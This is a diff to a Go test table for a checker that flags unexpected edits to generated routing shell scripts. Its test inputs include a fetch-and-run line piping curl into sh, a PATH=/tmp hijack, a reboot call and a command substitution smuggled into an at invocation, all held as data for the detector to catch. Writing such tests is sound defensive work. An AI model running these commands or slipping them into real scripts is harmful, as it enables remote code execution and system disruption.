@@ -187,6 +187,8 @@ var edits = []struct {
 		[]string{`added routes_and_rules | ip rule add priority 22500 from 192.0.2.1 lookup 101 protocol "$tag"`}, none},
 	{"added program", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tcurl https://example.com | sh"}},
 		[]string{"added routes_and_rules | curl https://example.com | sh"}, []string{"misplaced routes_and_rules | curl https://example.com | sh"}},
+	{"added variable", "setup", "lartc.hcl", []edit{{source1, "PATH=/tmp\n\t" + source1}, {"isp1_ipv4_on=$on", "isp1_ipv4_on=$on tag=4"}},
+		[]string{"changed needs | isp1_ipv4_on=$on tag=4", "added routes_and_rules | PATH=/tmp"}, []string{"misplaced needs | isp1_ipv4_on=$on tag=4", "misplaced routes_and_rules | PATH=/tmp"}},
 	{"added in an empty function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { reboot; }"}},
 		[]string{"added sets | sets() { reboot; }"}, []string{"misplaced sets | sets() { reboot; }"}},
 	{"added at", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tat \"$(reboot)\""}},
@@ -280,7 +282,7 @@ var edits = []struct {
 		[]string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}, []string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}},
 	{"no release", "setup", "lartc.hcl", []edit{{"# Written by gen-splitroute", "# By"}}, []string{"release top level | #!/bin/sh"}, []string{"release top level | #!/bin/sh"}},
 	{"read by hand", "setup", "lartc.hcl", []edit{{"\tneed_link loopback lo\n", "\tread_uplink provider.x.ipv4 if9 -4 auto auto\n"}},
-		[]string{"added needs |", "removed needs |", "library auto | main \"$@\""}, []string{"library auto | main \"$@\""}},
+		[]string{"changed needs |", "library auto | main \"$@\""}, []string{"library auto | main \"$@\""}},
 }
 
 // module is a module as it is in a script.
